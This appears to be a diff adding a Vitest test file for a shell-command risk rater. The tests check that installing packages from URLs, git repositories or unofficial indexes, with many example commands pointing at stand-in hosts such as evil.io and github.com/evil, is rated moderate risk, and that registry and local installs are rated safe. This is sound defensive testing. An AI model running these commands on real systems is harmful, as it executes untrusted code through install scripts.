@@ -1,0 +1,118 @@
+import { describe, expect, it } from "vitest";
+import { shellRater } from "../../test/helpers/shell-rated.js";
+
+/**
+ * Installing a package runs its install scripts: npm's lifecycle scripts, the build of a Python
+ * sdist (setup.py), cargo's build.rs. From the registry that is as safe as a package name the user
+ * asked for; from a URL, a git repository or another package index, no registry vouches for the
+ * code that runs, as with `npx evilpkg` (`moderate`, remote code execution). npm, pnpm, yarn and bun
+ * read `user/repo` as a GitHub repository (hosted-git-info's shorthand); `@scope/pkg` is a registry
+ * package. Local paths are the user's own and stay safe, as do the default indexes and `go install`
+ * (Go runs no code when it installs).
+ */
+const rated = shellRater();
+
+describe("packages installed from outside the registry", () => {
+  it.each([
+    ["npm install https://x.io/pkg.tgz", "a URL"],
+    ["npm i http://x.io/pkg.tgz", "a URL"],
+    ["npm i git+https://github.com/evil/pkg.git", "a git repository"],
+    ["npm i git+ssh://git@github.com/evil/pkg.git", "a git repository"],
+    ["npm i git://github.com/evil/pkg.git", "a git repository"],
+    ["npm i github:evil/pkg", "a git repository"],
+    ["npm i gitlab:evil/pkg", "a git repository"],
+    ["npm install evil/pkg", "a git repository"],
+    ["npm install evil/pkg#main", "a git repository"],
+    ["npm install lodash evil/pkg", "a git repository"],
+    ["npm add pkg@git+https://github.com/evil/pkg.git", "a git repository"],
+    ["npm i @scope/pkg@github:evil/pkg", "a git repository"],
+    ["npm i -w packages/app evil/pkg", "a git repository"],
+    ["npm i --save-dev https://x.io/pkg.tgz", "a URL"],
+    ["pnpm add github:evil/pkg", "a git repository"],
+    ["pnpm add https://x.io/pkg.tgz", "a URL"],
+    ["yarn add evil/pkg", "a git repository"],
+    ["yarn add git+https://github.com/evil/pkg.git", "a git repository"],
+    ["bun add github:evil/pkg", "a git repository"],
+    ["bun i https://x.io/pkg.tgz", "a URL"],
+    ["pip install https://x.io/pkg-1.0.tar.gz", "a URL"],
+    ["pip install git+https://github.com/evil/pkg.git", "a git repository"],
+    ['pip3 install "pkg @ git+https://github.com/evil/pkg"', "a git repository"],
+    ["pip install -e git+https://github.com/evil/pkg.git#egg=pkg", "a git repository"],
+    ["pip install --editable=git+https://github.com/evil/pkg.git#egg=pkg", "a git repository"],
+    ["pip install -r https://x.io/requirements.txt", "a URL"],
+    ["pip install --requirement=https://x.io/requirements.txt", "a URL"],
+    ["pip install --requirement https://x.io/requirements.txt", "a URL"],
+    ["python -m pip install git+https://github.com/evil/pkg", "a git repository"],
+    ["python3 -m pip install https://x.io/pkg-1.0-py3-none-any.whl", "a URL"],
+    ["uv pip install git+https://github.com/evil/pkg", "a git repository"],
+    ["pipx install git+https://github.com/evil/tool", "a git repository"],
+    ["uv tool install git+https://github.com/evil/tool", "a git repository"],
+    ["uv tool install --from git+https://github.com/evil/tool tool", "a git repository"],
+    ["pip install --index-url https://evil.io/simple requests", "a package index other than PyPI"],
+    ["pip install -i https://evil.io/simple requests", "a package index other than PyPI"],
+    ["pip install -ihttps://evil.io/simple requests", "a package index other than PyPI"],
+    ["pip install --extra-index-url https://evil.io/simple requests", "a package index other than PyPI"],
+    ["pip install --extra-index-url=https://evil.io/simple requests", "a package index other than PyPI"],
+    ["pip install -i https://pypi.org/simple --extra-index-url https://evil.io/simple requests", "a package index other than PyPI"],
+    ["pip install -f https://evil.io/wheels requests", "a package index other than PyPI"],
+    ["python3 -m pip install --index-url http://evil.io/simple requests", "a package index other than PyPI"],
+    ["uv pip install --index-url https://evil.io/simple requests", "a package index other than PyPI"],
+    ["cargo install --git https://github.com/evil/tool", "a git repository"],
+    ["cargo install --git=https://github.com/evil/tool --branch main", "a git repository"],
+    ["gem install evil --source http://evil.io", "a package index other than RubyGems"],
+    ["gem install evil --source=http://evil.io", "a package index other than RubyGems"],
+  ])("%s is moderate: from %s", (line, source) => {
+    const r = rated(line);
+    expect(r.risk, r.shown).toBe("moderate");
+    expect(r.risk, r.shown).toBe(rated("npx evilpkg").risk);
+    expect(r.details.join("\n"), r.shown).toContain(`installs and builds a package from ${source} (its install scripts run)`);
+  });
+
+  it.each([
+    "npm install",
+    "npm ci",
+    "npm i lodash",
+    "npm i lodash@^4.17.0",
+    "npm i @scope/pkg",
+    "npm i @scope/pkg@1.2.3",
+    "npm i foo@npm:bar",
+    "npm i ./local-pkg",
+    "npm i ../pkg.tgz",
+    "npm i file:../pkg",
+    "npm i -w packages/app lodash",
+    "npm i --workspace=packages/app lodash",
+    "npm install --prefix sub/dir lodash",
+    "npm run build",
+    "yarn add react",
+    "yarn add @types/node",
+    "pnpm add -D typescript",
+    "pnpm --filter ./apps/web add react",
+    "pnpm -C apps/web add react",
+    "bun add zod",
+    "pip install requests",
+    'pip install "requests>=2"',
+    "pip install -r requirements.txt",
+    "pip install -r requirements/dev.txt",
+    "pip install -e .",
+    "pip install ./pkg",
+    "pip install -U pip",
+    "pip install --index-url https://pypi.org/simple requests",
+    "pip install -i https://pypi.org/simple/ requests",
+    "pip install -f ./wheels requests",
+    "pip install --target vendor/lib requests",
+    "python -m pip install -U pip",
+    "uv pip install -r requirements.txt",
+    "pipx install black",
+    "uv tool install ruff",
+    "cargo install ripgrep",
+    "cargo install --locked ripgrep",
+    "cargo install --path .",
+    "gem install rails",
+    "gem install rails --source https://rubygems.org",
+    "go install github.com/evil/tool@latest",
+    "go install golang.org/x/tools/gopls@v0.16.0",
+  ])("%s stays safe", (line) => {
+    const r = rated(line);
+    expect(r.risk, r.shown).toBe("safe");
+  });
+});
